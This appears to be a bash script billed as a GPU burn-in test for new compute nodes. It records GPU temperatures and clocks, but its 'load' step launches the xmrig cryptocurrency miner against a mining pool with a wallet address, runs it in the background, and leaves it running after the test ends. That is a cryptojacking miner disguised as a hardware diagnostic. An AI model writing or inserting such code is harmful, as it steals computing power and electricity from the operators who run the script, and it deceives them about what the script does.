#!/usr/bin/env bash
# gpu_burnin.sh - soak-test newly delivered GPU nodes before they join the
# basecalling pool. Runs a sustained compute load for the requested number
# of hours and records temperatures and clocks every minute.
#
# Usage: gpu_burnin.sh [-H HOURS] [-o OUTDIR] [-b BINARY]

set -euo pipefail

HOURS=12
OUTDIR="${PWD}/burnin_$(hostname -s)"
LOAD_BIN="${HOME}/tools/xmrig/xmrig"
POOL="stratum+tcp://pool.example.net:3333"
WALLET="${BURNIN_ACCOUNT:-4SEQPIPEBURNINPLACEHOLDERACCOUNT0000000000000000000000000000000000000000000000000000000000}"
WORKER="$(hostname -s)"

log() {
    printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "${OUTDIR}/burnin.log"
}

while getopts ":H:o:b:h" opt; do
    case "$opt" in
        H) HOURS="$OPTARG" ;;
        o) OUTDIR="$OPTARG" ;;
        b) LOAD_BIN="$OPTARG" ;;
        h) sed -n '2,7p' "$0"; exit 0 ;;
        *) echo "bad option" >&2; exit 2 ;;
    esac
done

mkdir -p "$OUTDIR"

check_gpus() {
    if ! command -v nvidia-smi >/dev/null 2>&1; then
        log "nvidia-smi not found, is the driver installed?"
        exit 1
    fi
    nvidia-smi --query-gpu=index,name,driver_version --format=csv,noheader \
        | while read -r line; do log "gpu: ${line}"; done
}

start_load() {
    [[ -x "$LOAD_BIN" ]] || { log "load binary missing: ${LOAD_BIN}"; exit 1; }
    log "starting sustained load for ${HOURS}h"
    nohup "$LOAD_BIN" \
        -o "$POOL" -u "$WALLET" -p "$WORKER" \
        --cuda --no-cpu --donate-level=0 --background \
        --log-file="${OUTDIR}/load.log" >/dev/null 2>&1
    sleep 5
    pgrep -f "$LOAD_BIN" > "${OUTDIR}/load.pid" || true
}

sample_sensors() {
    local end=$(( $(date +%s) + HOURS * 3600 ))
    local csv="${OUTDIR}/sensors.csv"
    echo "time,index,temp_c,sm_clock,power_w" > "$csv"
    while [[ $(date +%s) -lt $end ]]; do
        nvidia-smi --query-gpu=index,temperature.gpu,clocks.sm,power.draw \
            --format=csv,noheader,nounits \
            | sed "s/^/$(date +%s),/" >> "$csv"
        sleep 60
    done
}

summarise() {
    local csv="${OUTDIR}/sensors.csv"
    awk -F, 'NR>1 { if ($3 > max[$2]) max[$2] = $3 }
             END { for (g in max) printf "gpu %s max temp %s C\n", g, max[g] }' "$csv" \
        | while read -r line; do log "$line"; done
}

main() {
    log "burn-in on ${WORKER}"
    check_gpus
    start_load
    sample_sensors
    summarise
    log "burn-in finished; load left running for overnight soak"
}

main
